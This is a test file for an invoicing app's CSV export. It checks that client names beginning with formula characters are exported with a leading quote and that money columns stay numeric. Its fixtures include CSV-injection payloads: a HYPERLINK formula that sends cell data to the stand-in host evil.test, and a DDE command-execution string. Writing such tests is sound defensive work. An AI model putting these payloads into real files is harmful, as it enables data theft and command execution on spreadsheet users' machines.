// Spreadsheet formulas in the invoices CSV (OWASP "CSV Injection"): a client named like a formula
// is exported with a leading `'`, so a spreadsheet shows it as text instead of running it; the
// value is otherwise intact, and money cells (negative amounts included) stay numbers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../support/api-app.js';
import { parseCsv } from '../../support/csv.js';
import { ok, OPS, product, project, salesOrder, team, type Team } from '../../support/workflow.js';

// The names of the report (issue 12, finding 3), and the other starts OWASP lists.
const FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)'];
// createClient trims names, so these are written straight in SQL: the export must not rely on that.
const RAW = ['\t=1+1', '\r=1+1'];
const PLAIN = ['Acme, "Promo" & Sons', 'Ünïcode 🧾 Ltd', "O'Brien = partner"];

let app: TestApp;
let t: Team;
const clientIds = new Map<string, string>();

beforeAll(async () => {
  app = await startTestApp();
  t = await team(app);
  const mug = await product(t, false, 1000);
  const prj = await project(t);
  const so = await salesOrder(t, prj.id, [{ productId: mug.id, quantity: 10 }]);
  for (const name of [...FORMULAS, ...PLAIN, ...RAW.map((_, i) => `raw ${i}`)]) {
    const created = await ok(t, t.order.token, OPS.createClient, { name, terms: 30 }, 'createClient');
    clientIds.set(name, created.client.id);
  }
  for (const [i, name] of RAW.entries()) {
    await app.sql('update client set name = $1 where id = $2', [name, clientIds.get(`raw ${i}`)]);
    clientIds.set(name, clientIds.get(`raw ${i}`)!);
  }
  // One invoice per client; the first is overpaid, so its balance is negative (-12.50). Credit
  // memos will bring negative amounts; until then this file's own database lets one be written.
  await app.sql('alter table invoice drop constraint invoice_amounts_check');
  let n = 0;
  for (const [name, clientId] of clientIds) {
    if (name.startsWith('raw ')) continue;
    n++;
    await app.sql(
      `insert into invoice (id, organization_id, number, sales_order_id, project_id, client_id, status, invoice_date, due_date,
                            subtotal_cents, tax_cents, total_cents, paid_cents, sent_to, version, created_at)
       select gen_random_uuid(), so.organization_id, $3, so.id, so.project_id, $2, 'SENT_TO_CLIENT', date '2025-03-01' + $4::int, date '2025-04-01',
              1000, 0, 1000, $5, '{}', 1, now()
       from sales_order so where so.id = $1`,
      [so.id, clientId, `INV-${9000 + n}`, n, n === 1 ? 2250 : 0],
    );
  }
}, 120_000);
afterAll(() => app?.stop());

describe('the invoices CSV', () => {
  it('neutralises every text cell that starts with = + - @, a tab or a CR with a leading quote, and keeps money numeric', async () => {
    const res = await fetch(`${app.url}/reports/invoices.csv`, { headers: { authorization: `Bearer ${t.accountant.token}` } });
    expect(res.status).toBe(200);
    const rows = parseCsv(await res.text());
    const [header = [], ...rest] = rows;
    const body = rest.slice(0, -1);
    const client = header.indexOf('Client');
    const balance = header.indexOf('Balance');
    const names = body.map((r) => r[client]);

    for (const name of [...FORMULAS, ...RAW]) expect(names).toContain(`'${name}`);
    for (const name of PLAIN) expect(names).toContain(name);
    expect(names).toHaveLength(FORMULAS.length + RAW.length + PLAIN.length);
    // No cell of any row (header and totals included) could start a formula.
    for (const row of rows) for (const cell of row) if (!/^-?\d+\.\d{2}$/.test(cell)) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);

    // Money stays a number: the overpaid invoice's balance is -12.50, not '-12.50.
    const overpaid = body.find((r) => r[0] === 'INV-9001')!;
    expect(overpaid[balance]).toBe('-12.50');
    const money = ['Subtotal', 'Tax', 'Total', 'Paid', 'Deposit applied', 'Credited', 'Refunded', 'Balance', 'Sales order remaining'].map((h) => header.indexOf(h));
    expect(money).not.toContain(-1);
    for (const row of body) for (const i of money) expect(row[i]).toMatch(/^-?\d+\.\d{2}$/);
    expect(rows.at(-1)![0]).toMatch(/^TOTAL \(9 documents\)$/);
    expect(rows.at(-1)![balance]).toBe(((9 * 1000 - 2250) / 100).toFixed(2));
  });
});
